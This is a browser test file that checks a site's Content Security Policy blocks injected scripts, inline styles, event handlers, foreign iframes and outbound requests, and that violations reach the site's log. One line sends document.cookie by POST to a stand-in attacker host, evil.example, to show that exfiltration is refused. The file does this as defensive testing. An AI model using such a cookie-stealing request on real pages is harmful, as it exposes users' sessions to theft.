import { serveOwnSite } from '../sites.ts'
import { expect, open, test } from './fixtures.ts'

test.use({ expectedErrors: /Content Security Policy|net::ERR|Failed to fetch|violates/ })

test('what a page did not bring does not run, is not shown and goes nowhere, and every journey would fail by it (R246)', async ({
  page,
  violations,
}) => {
  await open(page, '/')
  await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = true'
    document.body.append(script)
    const styled = document.createElement('p')
    styled.setAttribute('style', 'color: rgb(1, 2, 3)')
    styled.id = 'styled'
    document.body.append(styled)
    const pressed = document.createElement('button')
    pressed.setAttribute('onclick', 'window.ran = true')
    document.body.append(pressed)
    pressed.click()
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
    await fetch('https://evil.example/taken', { method: 'POST', body: document.cookie }).catch(() => {})
  })
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  await expect(page.locator('#styled')).not.toHaveCSS('color', 'rgb(1, 2, 3)')
  const told = () =>
    new Set(violations.flatMap((text) => /^securitypolicyviolation: ([\w-]+)/.exec(text)?.[1] ?? []))
  await expect
    .poll(told)
    .toEqual(new Set(['script-src-elem', 'script-src-attr', 'style-src-attr', 'frame-src', 'connect-src']))
  // The console says the same: one way to notice is as good as the other.
  expect(violations.some((text) => /violates the following Content Security Policy/.test(text))).toBe(true)
  violations.splice(0)
})

test('a browser sends what it refused to the site itself, which writes it into its log (R246)', async ({
  page,
  violations,
}) => {
  const log: string[] = []
  const site = await serveOwnSite('policy-in-browser', { onLog: (message) => log.push(message) })
  // By its name: numbers of networks stand in no log.
  const home = `http://localhost:${site.url.port}/`
  await page.goto(home)
  await page.evaluate(() => {
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
  })
  await expect.poll(() => violations.splice(0).length).toBeGreaterThan(0)
  const told = () => log.find((line) => line.includes('policy violation')) ?? '{}'
  await expect.poll(() => JSON.parse(told())).toMatchObject({ directive: 'frame-src', document: home })
  await page.close()
  // The console and the event tell of it one after the other.
  violations.splice(0)
  await site.stop()
})
